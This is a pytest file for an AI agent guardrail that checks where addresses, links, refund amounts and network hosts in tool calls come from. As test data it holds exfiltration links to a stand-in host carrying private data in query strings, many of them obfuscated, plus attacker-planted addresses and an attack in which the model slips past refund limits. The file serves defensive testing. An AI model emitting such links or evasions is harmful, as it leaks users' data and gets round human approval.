"""Who said it: what vouches for an address, a link or an amount, and how a host is read."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from agent.run.history import dump
from flightloop.tool import Effect, Permission, ToolSpec
from flightloop.verdicts import Action, Stage
from guardrails.guard import Guard
from guardrails.policy import parse_policy
from guardrails.text.words import stands_in
from guardrails.types import Checked, CheckedCall, GuardContext


async def test_an_address_made_of_words_that_the_model_gave_is_nobodys() -> None:
    """Though the user said each of them, for something else."""
    told = "mailbox info@shop-support.example"
    asked = dump({"name": "info", "domain": "shop-support.example"})
    said = "I want info on my shop order, support!"
    context = GuardContext(agent="desk", user_text=said, results=(told,), trusted_results=(told,), written=(asked,))
    guard, call = Guard(parse_policy(SINKS)), send("info@shop-support.example")
    assert (await guard.check(Checked(Stage.TOOL_CALL, "", context, call))).action is Action.ASK
    asked = dump({"name": "info"})
    context = GuardContext(agent="desk", user_text=said, results=(told,), trusted_results=(told,), written=(asked,))
    assert (await guard.check(Checked(Stage.TOOL_CALL, "", context, call))).action is Action.ALLOW


READ = """
name: desk
version: "1"
tools:
  provenance: allow
  allow: {"*": ["*"]}
  ask: [{tool: refund, argument: cents, above: 5000, read: {key: order_id, field: total}}]
"""


@pytest.mark.parametrize(
    ("trusted", "asked", "action"),
    [
        (True, '{"order_id": 7}', Action.ALLOW),
        (False, "", Action.ASK),
        (True, '{"text": "{\\"order_id\\": 7, \\"total\\": 10.0}"}', Action.ASK),
        (True, '{"price": 1e1}', Action.ASK),
        (True, '{"price": "10EUR"}', Action.ASK),
        (True, '{"price": -1000e-0002}', Action.ASK),
        (True, '{"price": "\u0661\u0660"}', Action.ASK),
        (True, '{"prices": "9 10 11EUR"}', Action.ASK),
    ],
)
async def test_a_strangers_result_does_not_decide_whether_a_person_is_asked(
    trusted: bool, asked: str, action: Action
) -> None:
    result = dump({"order_id": 7, "total": 10.0, "note": "line\nbreak"})
    context = GuardContext(
        agent="desk", results=(result,), trusted_results=(result,) if trusted else (), written=(asked,)
    )
    spec = ToolSpec("refund", "Pays.", {"type": "object", "properties": {}}, Effect.UNSAFE)
    call = CheckedCall("c", spec, {"order_id": 7})
    assert (await Guard(parse_policy(READ)).check(Checked(Stage.TOOL_CALL, "", context, call))).action is action


@pytest.mark.parametrize("total", [-1.0, "-5 EUR", float("inf"), float("-inf"), float("nan"), None, "none", {}])
async def test_an_amount_that_is_none_is_asked_about(total: object) -> None:
    result = json.dumps({"order_id": 7, "total": total})
    context = GuardContext(agent="desk", results=(result,), trusted_results=(result,))
    spec = ToolSpec("refund", "Pays.", {"type": "object", "properties": {}}, Effect.UNSAFE)
    call = CheckedCall("c", spec, {"order_id": 7})
    assert (await Guard(parse_policy(READ)).check(Checked(Stage.TOOL_CALL, "", context, call))).action is Action.ASK


@pytest.mark.parametrize(
    ("records", "asked", "action"),
    [
        ([90, 20], [], Action.ASK),
        ([90, 20], [90], Action.ASK),
        ([90, 20], [20], Action.ASK),
        ([40, 20], [20], Action.ALLOW),
        ([40, 20], [40], Action.ASK),
        ([20, "EUR 90"], [], Action.ASK),
        ([20, float("inf")], [], Action.ASK),
        ([20, {"cents": 9000}], [], Action.ASK),
        ([20, -5, None], [], Action.ALLOW),
        (["1.250 EUR"], [], Action.ASK),
        (["1,250"], [], Action.ASK),
        (["5k EUR"], [], Action.ASK),
        (["49.50 EUR"], [], Action.ALLOW),
        (["49,500 EUR", 3], [], Action.ASK),
        (["12,500EUR"], [], Action.ASK),
        (["1\u202f250,00 €"], [], Action.ASK),
        (["1’250.00 CHF"], [], Action.ASK),
        (["5 k EUR"], [], Action.ASK),
        (["1,25,000 INR"], [], Action.ASK),
        (["2.5e3"], [], Action.ASK),
        (["1.2.3"], [], Action.ASK),
        (["€49.50"], [], Action.ALLOW),
        (["0.125"], [], Action.ALLOW),
        (["1.000 EUR"], ["1.000 EUR"], Action.ASK),
        (["20.000 EUR", 40], ["20.000 EUR"], Action.ASK),
    ],
)
async def test_an_amount_that_may_be_higher_is_asked_about(
    records: list[object], asked: list[int | str], action: Action
) -> None:
    """Attack: the model writes the real amount into another call, so that a lower one of the same key decides."""
    result = json.dumps([{"order_id": 7, "total": total} for total in records])
    written = tuple(json.dumps({"number": number}) for number in asked)
    context = GuardContext(agent="desk", results=(result,), trusted_results=(result,), written=written)
    spec = ToolSpec("refund", "Pays.", {"type": "object", "properties": {}}, Effect.UNSAFE)
    guard, call = Guard(parse_policy(READ.replace("5000", "50"))), CheckedCall("c", spec, {"order_id": 7})
    assert (await guard.check(Checked(Stage.TOOL_CALL, "", context, call))).action is action


SINKS = 'name: desk\nversion: "1"\ntools: {provenance: allow, allow: {"*": ["*"]}}\n'


def send(to: str) -> CheckedCall:
    spec = ToolSpec("send", "Sends.", {"type": "object", "properties": {}}, Effect.UNSAFE, sinks=("to",))
    return CheckedCall("c", spec, {"to": to})


@pytest.mark.parametrize(
    ("result", "asked", "action"),
    [
        ({"customer": "Jane", "mail": "jane@corp.example"}, {"name": "Jane"}, Action.ALLOW),
        ({"query": "jane@corp.example", "found": []}, {"query": "jane@corp.example"}, Action.ASK),
        ("No customer matches 'Jane@Corp.example'", {"query": "jane@corp.example"}, Action.ASK),
        ({"given": {"to": ["jane@corp.example"]}}, {"deep": [{"to": "a, jane@corp.example"}]}, Action.ASK),
        ({"mail": "corp.example", "asked": "jane@corp.example"}, ["jane@corp.example"], Action.ASK),
        ("jane@corp.example", {"b": "jane@corp", "a": "example"}, Action.ASK),
    ],
)
async def test_a_result_vouches_for_nothing_that_it_was_asked_with(
    result: object, asked: dict[str, Any], action: Action
) -> None:
    guard = Guard(parse_policy(SINKS))
    text = result if isinstance(result, str) else dump(result)
    said, calls = "Write to Jane, please", (dump(asked),)
    context = GuardContext("default", "desk", user_text=said, results=(text,), trusted_results=(text,), written=calls)
    ruled = await guard.check(Checked(Stage.TOOL_CALL, "", context, send("jane@corp.example")))
    assert ruled.action is action


@pytest.mark.parametrize(
    ("result", "asked", "to"),
    [
        ({"asked": "eve@evil.example"}, {"query": "eve@evil.example"}, "asked <eve@evil.example>"),
        ("asked 66 Thief Lane Evilton 66666", {"query": "66 Thief Lane Evilton 66666"}, "asked 66 Thief Lane Evilton"),
        ({"asked": "DE89370400440532013000"}, ["DE89370400440532013000"], "asked: DE89370400440532013000"),
        ("no mailbox eve@evil.example", {"name": "eve", "domain": "evil.example"}, "eve@evil.example"),
        ({"street": "Thief", "city": "Evilton"}, {"s": "Thief", "c": "Evilton"}, "street Thief city Evilton"),
    ],
)
async def test_a_word_of_the_tools_own_vouches_for_no_word_that_the_model_brought_in(
    result: object, asked: object, to: str
) -> None:
    guard = Guard(parse_policy(SINKS))
    text = result if isinstance(result, str) else dump(result)
    context = GuardContext(agent="desk", results=(text,), trusted_results=(text,), written=(dump(asked),))
    assert (await guard.check(Checked(Stage.TOOL_CALL, "", context, send(to)))).action is Action.ASK
    before = GuardContext(
        agent="desk", results=(text,), trusted_results=(text,), written=(dump(asked),), written_before=(0,)
    )
    assert (await guard.check(Checked(Stage.TOOL_CALL, "", before, send(to)))).action is Action.ALLOW


@pytest.mark.parametrize(
    ("said", "given", "stands"),
    [
        ("mail it to bob@bank.example.com please", "bob@bank.example.com", True),
        ("mail it to bob@bank.example.com.", "BOB@bank.example.com", True),
        ("to <bob@bank.example.com>, thanks", "bob@bank.example.com", True),
        ('{"to": "bob@bank.example.com"}', "bob@bank.example.com", True),
        ("mail it to bob@bank.example.com please", "bob@bank-example.com", False),
        ("mail it to bob@bank.example.com please", "bob@bank/example.com", False),
        ("mail it to bob@example.com. Au revoir", "bob@example.com.au", False),
        ("mail it to my friend anna@x.com", "friend.anna@x.com", False),
        ("mail it to bob@bank.example.com", "bob@bank.example.com, bob@bank-example.com", False),
        ("see a.example.com", "a-example.com", False),
        ("see https://a.example/x and y", "https://a.example/x", True),
        ("see https://a.example/x y", "https://a.example/x-y", False),
        ("12 Main St., 10115 Berlin", "10115 Berlin, 12 Main St", True),
        ("account DE89 3704 0044", "DE89-3704-0044", True),
        ("I have 5 apples", "5", True),
        ("refund 12.50 EUR", "12.5", True),
        ("refund 12.50 EUR", "50", False),
        ("refund 12.50 EUR", "12", False),
        ("pay 500 EUR", "-500", False),
        ("pay 2,500 EUR", "500", False),
        ("order 10487, please", "10487", True),
        ("mail it to bob@bank.example.com", "\uff42ob@bank.example.com", False),
        ("mail it to \uff42ob@bank.example.com", "bob@bank.example.com", True),
        ("pay 1,250.00 EUR", "1250", True),
        ("to account 012180015678901235", "012180015678901235", True),
        ("to account 012180015678901235", "012180015678901237", False),
        ("card 4111111111111111000", "4111111111111111001", False),
        ("code 12", "0012", False),
        ("1000000000 of them", "1e9", False),
        ("12 of them", "1_2", False),
        ("write to info@strasse.example", "info@stra\u00dfe.example", False),
        ("the host 10 0 0 1", "10.0.0.1", False),
        ("the host 10.0.0.1.", "10.0.0.1", True),
    ],
)
def test_an_address_stands_in_somebodys_words_sign_by_sign(said: str, given: str, stands: bool) -> None:
    assert stands_in(given, [said]) is stands


async def test_a_rule_holds_for_what_the_tool_fills_in() -> None:
    rules = (
        'name: desk\nversion: "1"\n'
        'tools: {provenance: allow, allow: {"*": ["*"]}, arguments: {pay: {amount: {maximum: 500}}}}\n'
    )
    """Where only its code knows what that is, the call has to say it."""
    for default, action in ((1000, Action.BLOCK), (100, Action.ALLOW), (None, Action.BLOCK)):
        declared = {"type": "number"} if default is None else {"type": "number", "default": default}
        spec = ToolSpec("pay", "Pays.", {"type": "object", "properties": {"amount": declared}}, Effect.UNSAFE)
        checked = Checked(Stage.TOOL_CALL, "", GuardContext(agent="desk"), CheckedCall("c", spec, {}))
        assert (await Guard(parse_policy(rules)).check(checked)).action is action


async def test_what_is_left_out_is_the_tools_default_for_ask_rules_too() -> None:
    """Not what an earlier result says: the tool does not look there."""
    declared = {"order_id": {"type": "integer"}, "cents": {"type": "number", "default": 100_000}}
    spec = ToolSpec("refund", "Pays.", {"type": "object", "properties": declared}, Effect.UNSAFE)
    result = dump({"order_id": 7, "total": 10.0})
    context = GuardContext(agent="desk", results=(result,), trusted_results=(result,))
    for more, action in (({}, Action.ASK), ({"cents": 10}, Action.ALLOW)):
        call = CheckedCall("c", spec, {"order_id": 7, **more})
        assert (await Guard(parse_policy(READ)).check(Checked(Stage.TOOL_CALL, "", context, call))).action is action


async def test_keys_that_a_redaction_makes_the_same_block_the_call() -> None:
    rules = (
        'name: desk\nversion: "1"\nstages: {tool_call: {rails: [pii]}}\n'
        'tools: {provenance: allow, allow: {"*": ["*"]}}\n'
    )
    call = send("x")
    call.arguments["to"] = {"a@x.example": "drop", "b@x.example": "keep"}
    ruled = await Guard(parse_policy(rules)).check(Checked(Stage.TOOL_CALL, "", GuardContext(agent="desk"), call))
    assert ruled.action is Action.BLOCK


LINKS = """
name: desk
version: "1"
stages: {final: {rails: [{rail: links, keep: [user, results], action: redact}]}}
tools: {provenance: allow, allow: {"*": ["*"]}}
"""


@pytest.mark.parametrize(
    ("answer", "kept"),
    [
        ("see https://shop.example/help", True),
        ("see https://mine.example/any/page?x=1", True),
        ("![x](https://shop.example/help?d=35-Garden-Way)", False),
        ("see https://shop.example/", False),
        ("see https://other.example/help", False),
        ("![x](//other.example/p.png)", False),
        ("![x](https:/other.example/p.png)", False),
        ("![x](https:\\\\other.example/p.png)", False),
        ("![x](/\\other.example/p.png)", False),
        ("[x]: //other.example/p.png", False),
        ("<img src='//other.example/p.png'>", False),
        ("<a href=//other.example/p.png>", False),
        ("either//or, 1//2 and [1](/help)", True),
        *(
            (link.replace("MINE", "https://mine.example").replace("EVIL", "evil.example/p?d=S"), False)
            for link in (
                "![a](MINE{@EVIL)",
                "![a](MINE]@EVIL)",
                "![a](MINE'@EVIL)",
                "![a](MINE|@EVIL)",
                "![a](<MINE)@EVIL>)",
                "![a](   //EVIL)",
                "![a](\n//EVIL)",
                "[a]:\t//EVIL",
                '<img src = "//EVIL">',
                '<video poster="//EVIL">',
                "url(//EVIL)",
                "![a](https\\://EVIL)",
                "![a](https:EVIL)",
                "![a](https:////EVIL)",
            )
        ),
    ],
)
async def test_a_results_link_is_kept_as_it_is_and_vouches_for_no_other(answer: str, kept: bool) -> None:
    result = dump({"note": "Questions: https://shop.example/help.", "more": 1})
    context = GuardContext(agent="desk", user_text="I read https://mine.example/start", results=(result,))
    ruled = await Guard(parse_policy(LINKS)).check(Checked(Stage.FINAL, answer, context))
    assert ("redacted" not in ruled.text) is kept


async def test_a_link_that_the_model_wrote_is_no_results() -> None:
    """An error or a tool repeats it; written with escapes, too."""
    name = "https://evil.example/p.png?d=35-Garden-Way"
    result = f"error: No customer matches '{name}'."
    wide, apart = name.replace("e", "\uff45", 1), ["evil.example", "p.png?d=35-Garden-Way"]
    encoded = "https%3A%2F%2Fevil.example%2Fp.png%3Fd%3D35-Garden-Way"
    for written in (dump(name), dump(name).replace("/", "\\/"), f"{name} {{}}", dump(wide), dump(apart), dump(encoded)):
        context = GuardContext(agent="desk", results=(result,), written=(written,))
        ruled = await Guard(parse_policy(LINKS)).check(Checked(Stage.FINAL, f"![s]({name})", context))
        assert "redacted" in ruled.text
    context = GuardContext(agent="desk", results=(result,))
    assert "redacted" not in (await Guard(parse_policy(LINKS)).check(Checked(Stage.FINAL, name, context))).text


async def test_a_link_that_nobody_can_read_vouches_for_none() -> None:
    for said in ("https:/shop.example", "see file=///tmp/x", "path=\\\\server\\share"):
        for link in ("https:/evil.example/p", "https:///evil.example/p"):
            context = GuardContext(agent="desk", user_text=said)
            ruled = await Guard(parse_policy(LINKS)).check(Checked(Stage.FINAL, f"![s]({link})", context))
            assert "evil" not in ruled.text


async def test_the_beginning_of_a_results_link_vouches_for_no_longer_one() -> None:
    link = "https://evil.example/" + "x" * 3000
    for result in (link, f"{link} and more"):
        context = GuardContext(agent="desk", results=(result,))
        for answer in (link[:2021] + "?d=35-Garden-Way", link[:1000], link[:2021]):
            ruled = await Guard(parse_policy(LINKS)).check(Checked(Stage.FINAL, answer, context))
            assert "evil" not in ruled.text


@pytest.mark.parametrize(
    "host",
    [
        "example.org", "example.org.", "example\u3002org", "example\uff0eorg", "\u200bexample.org", "EXAMPLE.org..",
        "16909060", "1.2.772", "0x1020304", "https:\\\\example.org", "ht\ttps://example.org/", "example.org\\x",
        "//example.org", "[::1]", "example.xn--p1ai", "a.b.c.d.e.f.g.h.i.j.example.org", "user@example.org",
        "postgres://u:p@example.org/db", "ssh://git@example.org/x", "git@example.org:repo", "socks5h://u:p@example.org:1",
        "api.example.com,example.org", "example.org:80:80", "16909060:80", "127.1:80", "example%2eorg",
        "jdbc:postgresql://example.org/db", "https://api.example.com{@example.org/x", "api.example.com:443@example.org",
    ],
)  # fmt: skip
async def test_a_host_is_read_as_those_read_it_who_connect(host: str) -> None:
    parameters = {"type": "object", "properties": {}}
    network = frozenset({Permission.NETWORK})
    spec = ToolSpec("connect", "Connects.", parameters, Effect.PURE, permissions=network, hosts=("*",))
    guard = Guard(parse_policy(SINKS + "egress: {hosts: [api.example.com, 8.8.8.8]}\n"))
    wanted = [
        ("host", host, Action.BLOCK),
        ("options", {"a": [{"Proxy": host}]}, Action.BLOCK),
        ("host", "api.example.com.", Action.ALLOW),
        ("host", "134744072", Action.ALLOW),
        ("host", "8.8.8.8", Action.ALLOW),
        ("host", "8.8.4.4", Action.BLOCK),
        ("server_id", 5, Action.ALLOW),
        ("to", "jane@corp.example", Action.ALLOW),
    ]
    for argument, value, action in wanted:
        call = CheckedCall("c", spec, {argument: value})
        context = GuardContext(agent="desk", user_text="I am jane@corp.example")
        ruled = await guard.check(Checked(Stage.TOOL_CALL, "", context, call))
        assert ruled.action is action, (argument, value)


ADDRESS = st.from_regex(r"[a-z]{1,4}([.+-][a-z]{1,3})?@[a-z]{1,4}([.-][a-z]{1,3})?\.(com|org)", fullmatch=True)


async def test_a_value_is_not_vouched_for_by_parts() -> None:
    """One part that the model wrote, and another from the result around it."""
    result, asked = dump({"asked": "eve@evil.example", "found": []}), dump({"query": "eve@evil.example"})
    context = GuardContext(agent="desk", results=(result,), trusted_results=(result,), written=(asked,))
    for to in ("eve@evil.example, found", "found; eve@evil.example", "eve@evil.example\nfound"):
        ruled = await Guard(parse_policy(SINKS)).check(Checked(Stage.TOOL_CALL, "", context, send(to)))
        assert ruled.action is Action.ASK


@pytest.mark.parametrize(
    "to",
    ["bob@example.com'", "'bob@example.com'", "bob@example.com\n", "\nbob@example.com", "bob@example.com\r\n",
     "bob@example.com\t", "bob@example.com)", "ann@example.com, bob@example.com\n", "ann@example.com' bob@example.com"],
)  # fmt: skip
async def test_an_address_with_something_around_it_is_nobodys(to: str) -> None:
    context = GuardContext(
        agent="desk", user_text="Write to bob@example.com and to o'ann@example.com, ann@example.com."
    )
    guard = Guard(parse_policy(SINKS))
    assert (await guard.check(Checked(Stage.TOOL_CALL, "", context, send(to)))).action is Action.ASK
    for plain in ("bob@example.com", "<bob@example.com>", "o'ann@example.com; bob@example.com", "bob@example.com."):
        assert (await guard.check(Checked(Stage.TOOL_CALL, "", context, send(plain)))).action is Action.ALLOW


@settings(deadline=None, database=None)
@given(ADDRESS, ADDRESS)
def test_another_address_never_stands_in_what_was_said(said: str, given: str) -> None:
    assert stands_in(given, [f"please write to {said}, soon"]) is (given == said)
